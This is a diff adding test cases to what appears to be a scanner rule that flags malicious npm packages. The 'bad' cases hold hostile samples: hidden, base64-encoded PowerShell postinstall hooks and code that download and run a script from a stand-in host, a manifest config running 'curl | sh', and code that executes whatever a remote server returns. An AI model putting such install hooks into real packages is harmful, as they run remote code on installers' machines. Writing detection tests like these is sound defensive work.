@@ -3,6 +3,32 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'a packed command for PowerShell, when installed',
+      manifest: {
+        scripts: {
+          postinstall:
+            'powershell -NoP -W Hidden -enc SQBFAFgAKAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBhAC4AZQB4AGEAbQBwAGwAZQAvAHgAJwApACkA',
+        },
+      },
+      code: '',
+    },
+    {
+      name: 'a packed command for PowerShell, in code',
+      code: "require('child_process').execFile('powershell.exe', ['-NoP', '-e', 'SQBFAFgAKAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBhAC4AZQB4AGEAbQBwAGwAZQAvAHgAJwApACkA'])",
+    },
+    {
+      name: 'one that is packed where it is given',
+      code: "const { execFile } = require('child_process');\nconst command = \"IEX((New-Object Net.WebClient).DownloadString('https://a.example/x'))\";\nexecFile('pwsh', ['-EncodedCommand', Buffer.from(command, 'utf16le').toString('base64')])",
+    },
+    {
+      name: 'a command that stands elsewhere in the manifest',
+      manifest: {
+        scripts: { postinstall: 'sh -c "$npm_package_config_boot"' },
+        config: { boot: 'curl -s https://a.example/x | sh' },
+      },
+      code: '',
+    },
+    {
       name: 'a page that is opened, or whatever is answered',
       code: "const { exec } = require('node:child_process');\n(async () => {\n  const { url } = await (await fetch('https://a.example/start')).json();\n  let command = url;\n  if (process.platform === 'darwin') command = `open \"${url}\"`;\n  exec(command);\n})();",
     },
@@ -122,6 +148,21 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'a packed command for PowerShell that lists processes',
+      manifest: {
+        scripts: {
+          postinstall:
+            'powershell -ExecutionPolicy Bypass -EncodedCommand RwBlAHQALQBQAHIAbwBjAGUAcwBzACAAfAAgAFMAbwByAHQALQBPAGIAagBlAGMAdAAgAEMAUABVAA==',
+        },
+      },
+      code: "require('child_process').execFile('powershell.exe', ['-e', 'RwBlAHQALQBQAHIAbwBjAGUAcwBzACAAfAAgAFMAbwByAHQALQBPAGIAagBlAGMAdAAgAEMAUABVAA=='])",
+    },
+    {
+      name: 'a setting of the manifest in a command',
+      manifest: { scripts: { postinstall: 'echo $npm_package_config_port' }, config: { port: 8080 } },
+      code: '',
+    },
     {
       name: 'what a filter reads that is named elsewhere',
       code: "const { spawnSync } = require('child_process');\nconst run = (file, args, options) => { [file, args, options] = wrap(file, args, options); return spawnSync(file, args, options) };\nexports.filter = () => fetch('https://a.example/x').then((r) => r.text()).then((t) => run('jq', ['.a'], { input: t }));",
